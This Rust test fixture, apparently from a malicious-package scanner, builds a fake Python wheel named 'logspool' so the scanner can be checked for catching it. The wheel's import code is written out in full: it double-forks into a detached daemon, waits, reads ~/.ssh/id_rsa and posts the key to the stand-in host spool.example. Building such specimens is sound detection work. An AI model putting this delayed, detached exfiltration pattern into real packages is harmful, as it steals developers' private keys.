//! A wheel that, when it is imported, leaves a daemon behind (two forks, own session), which sends a bait three
//! seconds later, long after the import is over.
//!
//! Must be found: the detached process that sends, in whichever phase runs then.

use apa_model::Ecosystem;

use crate::{Expect, Specimen, Wheel};

const INIT: &str = r#"import os
import time

def spool():
    time.sleep(3)
    import urllib.request

    with open(os.path.expanduser("~/.ssh/id_rsa"), "rb") as file:
        urllib.request.urlopen("http://spool.example/in", file.read(), timeout=5)

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            spool()
        finally:
            os._exit(0)
    os._exit(0)
"#;

pub(super) fn specimen() -> Specimen {
    let package = Wheel::new("logspool", "4.0.0").file("logspool/__init__.py", INIT);
    Specimen {
        name: "pypi-daemon",
        ecosystem: Ecosystem::Pypi,
        filename: package.filename(),
        bytes: package.build(),
        served: Vec::new(),
        expect: Expect::malicious(&["canary-exfiltrated", "detached-process-sends"]),
    }
}
